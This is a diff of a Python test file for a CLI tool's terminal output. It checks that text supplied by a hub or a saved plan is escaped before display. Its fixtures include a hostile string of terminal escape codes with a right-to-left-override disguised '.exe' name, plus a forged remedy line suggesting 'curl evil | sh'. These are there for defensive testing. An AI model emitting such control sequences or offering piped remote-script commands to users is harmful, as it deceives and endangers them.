@@ -12,12 +12,14 @@ from holdfast.cli import main
 from holdfast.cli.fleet import show_plan
 from holdfast.cli.hub import status
 from holdfast.cli.sizes import counted
-from holdfast.cli.terminal import Terminal, harmless
+from holdfast.cli.terminal import Terminal
+from holdfast.cli.text import harmless
 from holdfast.cli.tools import Toolbox
 from holdfast.errors import Failed
 from holdfast.model.hub_status import HubStatus, StatusFinding
 from holdfast.model.plan import Blast, Change, ChangeKind, Demand, FieldChange, Plan
 from holdfast.model.revision import NO_HEAD, Candidate
+from holdfast.wire import faults
 
 HOSTILE = "\x1b[2J\x1b]0;owned\x07\x9b1A\u202egnp.exe\x7f\r\x08"
 CONTROLS = set("\x1b\x07\x9b\u202e\x7f\r\x08")
@@ -34,32 +36,59 @@ def terminal() -> tuple[Terminal, Screen]:
     return Terminal(screen, screen, screen, environ_no_colour=True), screen
 
 
+def printed(plan: Plan, verbose: bool = False) -> str:
+    place, screen = terminal()
+    place.say(show_plan.text(plan, place, verbose))
+    return screen.getvalue()
+
+
 def test_foreign_text_is_harmless_and_still_readable() -> None:
-    assert harmless("plain – ümläut → ok\nsecond line") == "plain – ümläut → ok\nsecond line"
+    assert harmless("plain – ümläut → ok") == "plain – ümläut → ok"
+    assert harmless("one\ntwo\r\nthree\r\n") == "one⏎two⏎three"
+    assert harmless("a\rb\u2028c\x85d") == "a\\rb\\u2028c\\x85d"
     shown = harmless("a" + HOSTILE + "b")
     assert shown.isprintable() and shown.startswith("a\\x1b[2J") and shown.endswith("b")
 
 
 def test_an_error_of_a_hub_is_shown_harmlessly() -> None:
     place, screen = terminal()
-    main.report(Failed(HOSTILE, remedy=HOSTILE), place, as_json=False)
+    main.report(Failed(HOSTILE + "\nremedy: x", remedy=HOSTILE + "\nerror: y"), place, as_json=False)
     assert not CONTROLS & set(screen.getvalue())
+    assert [line[:6] for line in screen.getvalue().splitlines()] == ["error:", "  reme", "remedy"]
+
+
+def test_x20_a_remedy_of_a_hub_is_never_shown_as_one_of_ours() -> None:
+    place, screen = terminal()
+    trouble = faults.trouble(faults.Fault("failed", "no\nremedy: space", "curl evil | sh\nremedy: x"), 500, "1")
+    main.report(trouble, place, as_json=False)
+    assert screen.getvalue().splitlines() == [
+        "error: the hub says: no",
+        "  remedy: space",
+        "the hub suggests: curl evil | sh⏎remedy: x",
+    ]
+    place, screen = terminal()
+    main.report(trouble, place, as_json=True)
+    assert msgspec.json.decode(screen.getvalue()) == {
+        "code": "failed",
+        "message": "no\nremedy: space",
+        "remedy": "curl evil | sh\nremedy: x",
+        "said_by": "hub",
+    }
 
 
 @pytest.mark.parametrize("before", [None, HOSTILE])
 def test_values_in_a_plan_are_shown_harmlessly(before: str | None) -> None:
-    place, _ = terminal()
     change = Change("service.x", "update", "w1", "apply", "", fields=(FieldChange("env.A", before, HOSTILE),))
-    text = show_plan.text(Plan(NO_HEAD, (change,), "apply", None), place)
+    text = printed(Plan(NO_HEAD, (change,), "apply", None))
     assert not CONTROLS & set(text)
 
 
 @pytest.mark.parametrize(("removes", "verb"), [(False, "update on w1"), (True, "retire from w1")])
 def test_a_plan_that_detaches_data_does_not_say_that_it_destroys_it(removes: bool, verb: str) -> None:
-    """The kind is `destroy` in --json; an apply deletes no data."""
+    """N33. The kind is `destroy` in --json; an apply deletes no data."""
     change = Change("service.x", "destroy", "w1", "destroy", "", removes=removes)
-    text = show_plan.text(Plan(NO_HEAD, (change,), "destroy", None), terminal()[0])
-    assert f"! service.x  {verb}" in text and f"Plan: 1 to {verb.split()[0]}." in text
+    text = printed(Plan(NO_HEAD, (change,), "destroy", None))
+    assert f"{'-' if removes else '~'} service.x  {verb}" in text and f"Plan: 1 to {verb.split()[0]}." in text
     assert "to destroy" not in text and show_plan.change_document(change)["kind"] == "destroy"
 
 
@@ -87,34 +116,34 @@ def hostile_plan(said: str, candidate: Candidate | None = None) -> Plan:
 
 @pytest.mark.parametrize("verbose", [False, True])
 def test_nothing_in_a_plan_obeys_who_wrote_it(verbose: bool) -> None:
-    place, _ = terminal()
-    text = show_plan.text(hostile_plan(HOSTILE), place, verbose)
+    text = printed(hostile_plan(HOSTILE), verbose)
     assert not CONTROLS & set(text)
     assert text.count("\\x1b[2J") > 30  # shown, not swallowed
 
 
 def test_nothing_in_a_plan_begins_a_line_of_its_own() -> None:
-    place, _ = terminal()
-    honest, forged = (show_plan.text(hostile_plan(said), place, verbose=True) for said in ("x", FORGED))
+    honest, forged = (printed(hostile_plan(said), verbose=True) for said in ("x", FORGED))
     assert len(forged.splitlines()) == len(honest.splitlines())
 
 
 @pytest.mark.parametrize("verbose", [False, True])
 def test_what_is_created_is_shown_harmlessly(verbose: bool) -> None:
     """The contents of a saved plan are somebody else's bytes."""
-    place, _ = terminal()
     said = HOSTILE + FORGED
     service = msgspec.json.encode({"components": [{"name": said, "image": said}], said: said})
     table = msgspec.json.encode({"entries": {f"service.{said}": {"digest": "d"}}})
     plan = Plan(NO_HEAD, (hostile_change("create", said),), "destroy", Candidate(b"", table, {"d": service}, ()))
-    text = show_plan.text(plan, place, verbose)
+    text = printed(plan, verbose)
     assert not CONTROLS & set(text) and "owned" in text
     assert not [line for line in text.splitlines() if line.startswith("No changes.")]
 
 
 def test_colours_are_those_of_holdfast_only() -> None:
     screen = Screen()
-    text = show_plan.text(hostile_plan(HOSTILE), Terminal(screen, screen, screen))
+    place = Terminal(screen, screen, screen)
+    place.say(show_plan.text(hostile_plan(HOSTILE + "\x1b[31mred\0"), place))
+    text = screen.getvalue()
+    assert "\\x1b[31mred\\x00" in text
     assert re.sub(r"\x1b\[\d*m", "", text).count("\x1b") == 0 and "\x1b[31m" in text
 
 
@@ -136,12 +165,11 @@ def test_the_status_of_a_hub_is_shown_harmlessly() -> None:
 
 
 def test_a_long_value_is_cut_where_it_changes() -> None:
-    place, _ = terminal()
     long = "sh -c " + "x" * 200
     change = Change(
         "service.x", "update", "w1", "apply", "", fields=(FieldChange("cmd", long + "8080", long + "8081"),)
     )
-    text = show_plan.text(Plan(NO_HEAD, (change,), "apply", None), place)
+    text = printed(Plan(NO_HEAD, (change,), "apply", None))
     assert "8080" in text and "8081" in text
 
 
@@ -161,7 +189,7 @@ def test_a_long_value_is_cut_where_it_changes() -> None:
 def test_a_field_that_is_left_out_has_its_default(address: str, field: FieldChange, shown: str) -> None:
     """N42: `replicas: 4 removed` was shown for 4 → 1."""
     change = Change(address, "update", "w1", "apply", "", fields=(field,))
-    assert f"      {shown}" in show_plan.text(Plan(NO_HEAD, (change,), "apply", None), terminal()[0]).splitlines()
+    assert f"      {shown}" in printed(Plan(NO_HEAD, (change,), "apply", None)).splitlines()
 
 
 def test_one_of_a_thing_is_singular() -> None:
